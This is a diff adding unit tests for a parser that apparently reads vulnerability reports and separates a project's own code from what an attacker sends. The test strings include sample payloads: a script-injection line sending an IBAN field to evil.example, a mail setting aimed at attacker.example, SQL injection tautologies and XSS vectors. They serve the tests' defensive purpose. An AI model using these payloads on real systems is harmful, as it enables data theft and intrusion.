@@ -446,6 +446,16 @@ describe('extractCodeClaims: the reporter’s script and payloads are not the pr
       const claims = claimsOf(`${leadIn}\n\n${handler}\n`);
       expect(claims.filter((claim) => claim.kind === 'snippet')).toEqual([]);
     }
+    for (const leadIn of [
+      'Na nossa API a tolerância vem do ambiente:',
+      'Dans notre application, le jeton est vérifié ainsi :',
+      'En nuestro servicio:',
+      'In unserer Anwendung:',
+      'Nel nostro codice:',
+    ]) {
+      const claims = claimsOf(`${leadIn}\n\n${handler}\n`);
+      expect(claims.filter((claim) => claim.kind === 'snippet')).toEqual([]);
+    }
     const quoted = claimsOf(`The handler in src/server/dispatch.rs:\n\n${handler}\n`);
     expect(quoted.filter((claim) => claim.kind === 'snippet')).toHaveLength(1);
   });
@@ -580,6 +590,16 @@ describe('the PHP code and settings of the reporter', () => {
     expect(brief(claims)).toContain('ext symbol MAILER_DSN');
   });
 
+  it('reads a name read through process.env or exported in a shell as an environment variable', () => {
+    const claims = claimsOf(
+      '# Expiry\n\nWith `export TOKEN_SKEW=60` tokens never expire.\n\n1. `export TOKEN_SKEW_MAX=5`\n\nThe call passes `process.env.TOKEN_LEEWAY` and `import.meta.env.VITE_TOKEN` along; `TOKEN_LEEWAY` and `TOKEN_SKEW_MAX` are strings.\n',
+    );
+    const external = brief(claims).filter((claim) => claim.startsWith('ext symbol'));
+    expect(external).toEqual(expect.arrayContaining(['ext symbol TOKEN_LEEWAY']));
+    expect(brief(claims)).not.toContain('symbol TOKEN_LEEWAY');
+    expect(brief(claims)).not.toContain('symbol TOKEN_SKEW_MAX');
+  });
+
   it('does not claim a configuration line with an unquoted URL as project code', () => {
     const claims = claimsOf(
       '# Redirect\n\nWe added `env[MAILER_DSN] = smtp://user:pass@attacker.example:25` to the pool.\n',
@@ -588,7 +608,45 @@ describe('the PHP code and settings of the reporter', () => {
   });
 });
 
+describe('inline code given as what someone enters or sends', () => {
+  it('is the attacker’s input, and so are its names wherever the report names them', () => {
+    const claims = claimsOf(
+      '# Script injection\n\nA malicious customer can enter `app.launchURL("https://evil.example/?c=" + this.getField("iban").value)` and it runs. The writer calls `add_script(doc, user_text)` unchanged; it should reject `app.launchURL`.\n',
+    );
+    expect(brief(claims).filter((claim) => claim.startsWith('snippet'))).toEqual([
+      'snippet add_script(doc, user_text)',
+    ]);
+    expect(claims.map((claim) => claim.text)).not.toContain('app.launchURL');
+  });
+
+  it('keeps code the report says the project runs', () => {
+    const claims = claimsOf(
+      '# Overflow\n\nThe parser can then run `copy_bytes(dst, src, len)` past the end.\n',
+    );
+    expect(brief(claims).filter((claim) => claim.startsWith('snippet'))).toEqual([
+      'snippet copy_bytes(dst, src, len)',
+    ]);
+  });
+});
+
+describe('a Ruby constructor call', () => {
+  it('looks for the class, since the project defines no method `new`', () => {
+    const claims = claimsOf('# Slow parse\n\n`REXML::Document.new` takes minutes on this input.\n');
+    const call = claims.find((claim) => claim.text === 'REXML::Document.new');
+    expect(call?.symbol).toBe('Document');
+  });
+});
+
 describe('an injection payload quoted inline', () => {
+  it('reads a quoted tautology as what the attacker sends', () => {
+    const tautologies = claimsOf(
+      "# Injection\n\nLogging in with `name=' or '1'='1` or `\" OR 1=1 --` works; the query is built by `find_user(name, pass)`.\n",
+    );
+    expect(
+      tautologies.filter((claim) => claim.kind === 'snippet').map((claim) => claim.text),
+    ).toEqual(['find_user(name, pass)']);
+  });
+
   it('is what the attacker sends, not a snippet of the project', () => {
     const claims = claimsOf(
       '# XSS\n\nWhen the name contains `"><img src=x onerror=alert(document.domain)>` the handler fires; so does `<svg onload=alert(1)>` and `javascript:alert(1)//`. The parser calls `sanitize_attr(value, len)` first.\n',
